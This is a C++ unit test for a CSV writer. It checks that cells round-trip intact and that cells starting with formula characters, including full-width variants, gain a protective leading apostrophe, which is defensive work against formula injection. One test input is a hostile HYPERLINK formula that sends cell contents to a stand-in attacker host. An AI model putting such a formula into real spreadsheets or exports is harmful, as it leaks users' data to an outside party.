#include "engine/serve/csv.h"

#include <catch2/catch_test_macros.hpp>

namespace tocsin::serve {
namespace {

/// A reader of RFC 4180, as a spreadsheet reads.
std::vector<std::vector<std::string>> read_csv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1);
  rows.back().emplace_back();
  bool quoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    auto& cell = rows.back().back();
    if (quoted && text[i] == '"' && i + 1 < text.size() && text[i + 1] == '"')
      cell += text[++i];
    else if (text[i] == '"')
      quoted = !quoted;
    else if (!quoted && text[i] == ',')
      rows.back().emplace_back();
    else if (!quoted && text[i] == '\r' && i + 1 < text.size() && text[i + 1] == '\n')
      ++i, rows.emplace_back().emplace_back();
    else
      cell += text[i];
  }
  rows.pop_back();
  return rows;
}

TEST_CASE("cells come back as they were, formulas with an apostrophe before them", "[csv]") {
  struct Row {
    std::string cell, back;
  };
  const std::vector<Row> rows{
      {"", ""},
      {"plain", "plain"},
      {"a,b", "a,b"},
      {"say \"no\"", "say \"no\""},
      {"two\r\nlines\nand more", "two\r\nlines\nand more"},
      {"  spaces  ", "  spaces  "},
      {"ünïcödé 🙂", "ünïcödé 🙂"},
      {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
       "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
      {"+1", "'+1"},
      {"-1", "'-1"},
      {"@SUM(A1)", "'@SUM(A1)"},
      {"\t=1", "'\t=1"},
      {"\r=1", "'\r=1"},
      {"＝1", "'＝1"},
      {"＋1", "'＋1"},
      {"－1", "'－1"},
      {"＠a", "'＠a"},
      {"a=1", "a=1"},
      {"'=1", "'=1"},
  };
  std::string text;
  std::vector<std::string> cells, expected;
  for (const auto& [cell, back] : rows) {
    cells.push_back(cell);
    expected.push_back(back);
    append_csv_row(text, {cell, "end"});
  }
  const auto lines = read_csv(text);
  REQUIRE(lines.size() == rows.size());
  for (std::size_t i = 0; i < rows.size(); ++i)
    CHECK(lines[i] == std::vector<std::string>{rows[i].back, "end"});
  text.clear();
  append_csv_row(text, cells);
  CHECK(read_csv(text).at(0) == expected);
}

}  // namespace
}  // namespace tocsin::serve
